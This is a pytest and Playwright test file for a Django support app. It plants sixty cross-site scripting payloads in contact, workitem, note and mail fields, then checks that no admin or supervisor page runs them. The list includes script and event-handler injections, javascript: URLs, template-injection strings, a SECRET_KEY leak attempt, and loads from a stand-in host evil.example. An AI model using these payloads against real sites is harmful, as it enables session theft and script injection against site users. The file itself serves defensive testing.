"""Sixty ways to smuggle a script in, in every field that customers and programs fill, on every page that shows them."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from django.utils import timezone
from playwright.sync_api import Browser, Page

from contacts.models import Contact, ContactEmail
from tests.browsers import IN_A_BROWSER
from tests.builders import NOON, make_queue, make_user
from tests.visits import enter
from workitems import services
from workitems.actors import Actor
from workitems.choices import Scope, State, Type
from workitems.commands import AddNote
from workitems.groups import grant
from workitems.models import OutgoingMail, Workitem

SET = "window.__hit=1"
PAYLOADS = [
    f"<script>{SET}</script>",
    f"</script><script>{SET}</script>",
    f"<ScRiPt>{SET}</sCrIpT>",
    f"<script/x>{SET}</script>",
    f"<script src=data:,{SET}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={SET}>",
    f"<img src=x onerror='{SET}'>",
    f'<img src=x onerror="{SET}">',
    f'"><img src=x onerror={SET}>',
    f"'><img src=x onerror={SET}>",
    f"--><img src=x onerror={SET}>",
    f"]]><img src=x onerror={SET}>",
    f"</title><img src=x onerror={SET}>",
    f"</textarea><img src=x onerror={SET}>",
    f"</style><img src=x onerror={SET}>",
    f"</option></select><img src=x onerror={SET}>",
    f"</noscript><img src=x onerror={SET}>",
    f"</template><img src=x onerror={SET}>",
    f"</template><script>{SET}</script>",
    f"<svg onload={SET}>",
    f"<svg/onload={SET}>",
    f"<svg><script>{SET}</script></svg>",
    f"<svg><animate onbegin={SET} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{SET}'><text>x</text></a></svg>",
    f"<math><mtext></table><img src=x onerror={SET}>",
    f"<math href='javascript:{SET}'>x</math>",
    f"<body onload={SET}>",
    f"<iframe srcdoc='<script>parent.{SET}</script>'>",
    f"<iframe src='javascript:parent.{SET}'>",
    f"<object data='javascript:{SET}'>",
    f"<embed src='javascript:{SET}'>",
    f"<input autofocus onfocus={SET}>",
    f"<select autofocus onfocus={SET}>",
    f"<textarea autofocus onfocus={SET}>",
    f"<details open ontoggle={SET}>",
    f"<video src=x onerror={SET}>",
    f"<video><source onerror={SET}>",
    f"<audio src=x onerror={SET}>",
    f"<marquee onstart={SET}>",
    f"<form><button formaction='javascript:{SET}'>x</button></form>",
    f"<a href='javascript:{SET}'>x</a>",
    f"javascript:{SET}",
    f"data:text/html,<script>{SET}</script>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SET}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    f'" autofocus onfocus={SET} x="',
    f"' autofocus onfocus={SET} x='",
    f'" onmouseover={SET} style="position:fixed;inset:0" x="',
    f"';{SET};//",
    f'";{SET};//',
    f"\\';{SET};//",
    f"${{{SET}}}",
    "{{constructor.constructor('window.__hit=1')()}}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    f"x' x-init='{SET}",
    f'<div x-data x-init="{SET}"></div>',
    f"<x-x @click='{SET}' x-on:mouseenter='{SET}' x-html='1'>",
]  # fmt: skip
PARTS = 4

pytestmark = IN_A_BROWSER


@pytest.fixture
def hostile(request) -> list[Workitem]:
    """Return one workitem for each payload of this part, full of it, with a contact, a note and a mail full of it."""
    ann = make_user("ann")
    queue = make_queue("q_support", name="Support", members=[ann])
    return [_full_of(payload, queue, ann) for payload in PAYLOADS[request.param :: PARTS]]


def _full_of(payload, queue, agent) -> Workitem:
    contact = Contact.objects.create(
        display_name=payload, first_name=payload, last_name=payload[:100], company=payload, source=payload[:50],
        external_id=payload[:100], notes=payload, data={payload: [payload]},
    )  # fmt: skip
    ContactEmail.objects.create(contact=contact, address=f"{payload[:200]}@example.com")
    item = Workitem.objects.create(
        type=Type.INBOUND_EMAIL, channel_type="email", state=State.ACTIVE, current_state_name=payload[:60], queue=queue,
        agent=agent, contact=contact, name=payload, from_address=payload, to_address=payload, data={payload: payload},
        created_at=NOON, modified_at=NOON, state_changed_at=NOON, active_at=NOON, queued_at=NOON, assigned_at=NOON,
    )  # fmt: skip
    program = Actor.job(payload[:60], Scope.WRITE)
    note = AddNote(text=payload, name=payload[:64], details={"said": payload, payload[:40]: payload})
    services.execute(note, item.workitem_id, actor=program, now=timezone.now())
    OutgoingMail.objects.create(
        workitem=item, from_address="us@example.com", message_id=item.workitem_id, created_at=NOON,
        next_attempt_at=NOON, subject=payload, to_addresses=[payload], text=payload, error=payload,
    )  # fmt: skip
    return item


@pytest.fixture
def page(chromium: Browser, live_server) -> Iterator[Page]:
    user = make_user("sue", is_staff=True, is_superuser=True)
    grant(user, Scope.ADMIN)
    page = enter(chromium, live_server.url, user)
    page.on("dialog", lambda dialog: (page.problems.append(dialog.message), dialog.dismiss()))
    yield page
    page.context.close()


def hits(page: Page, path: str) -> list[str]:
    """Return what went wrong on a page: scripts that ran, lines on the console, requests to elsewhere."""
    page.problems.clear()  # type: ignore[attr-defined]
    page.goto(path)
    page.wait_for_load_state("load")
    ran = ["a script ran"] if page.evaluate("window.__hit") else []
    return [f"{path}: {problem}" for problem in [*ran, *page.problems]]  # type: ignore[attr-defined]


@pytest.mark.parametrize("hostile", range(PARTS), indirect=True)
def test_nothing_that_a_customer_sends_runs_anywhere(hostile, page):
    people = [item.contact_id for item in hostile]
    found = [
        one
        for item in hostile
        for path in (
            f"/admin/workitems/workitem/{item.pk}/change/",
            f"/admin/workitems/workitem/{item.pk}/change/?tab=timeline",
            f"/admin/workitems/workitem/{item.pk}/change/?tab=contact",
            f"/admin/workitems/workitem/{item.pk}/change/?tab=raw",
            f"/admin/contacts/contact/{item.contact_id}/change/",
            f"/supervisor/workitems/{item.workitem_id}/",
            f"/supervisor/transfer/?workitem={item.workitem_id}",
        )
        for one in hits(page, path)
    ]
    lists = [
        "/admin/", "/admin/workitems/workitem/", "/admin/contacts/contact/", "/admin/workitems/outgoingmail/",
        "/admin/workitems/timeevent/", "/admin/workitems/auditentry/", "/supervisor/",
        "/supervisor/agents/ann/handover/",
        f"/admin/workitems/workitem/?q={hostile[0].workitem_id}", "/admin/workitems/workitem/?q=%22%3E%3Cscript%3E",
    ]  # fmt: skip
    found += [one for path in lists for one in hits(page, path)]
    assert found == []
    assert len(people) == len(PAYLOADS) // PARTS


def test_there_are_sixty_ways():
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
    assert json.loads(json.dumps(PAYLOADS)) == PAYLOADS
